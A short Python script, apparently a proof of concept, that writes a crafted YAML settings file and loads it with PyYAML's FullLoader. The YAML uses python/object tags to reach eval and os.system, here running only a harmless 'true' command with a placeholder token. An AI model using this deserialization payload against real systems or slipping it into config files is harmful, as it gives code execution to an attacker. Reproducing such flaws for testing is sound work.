"""Read a settings file the way our build tool did: from a temporary folder, inside a context manager."""

import contextlib
import os
import tempfile

from yaml import FullLoader
from yaml import load as read

TEXT = """
!!python/object/new:tuple
- !!python/object/new:map
  - !!python/name:eval
  - ["__import__('os').system('true @@TOKEN@@')"]
"""


@contextlib.contextmanager
def settings(text):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "settings.yml")
        with open(path, "w") as file:
            file.write(text)
        with open(path) as file:
            yield read(file.read(), Loader=FullLoader)


with settings(TEXT) as found:
    print("settings:", found)
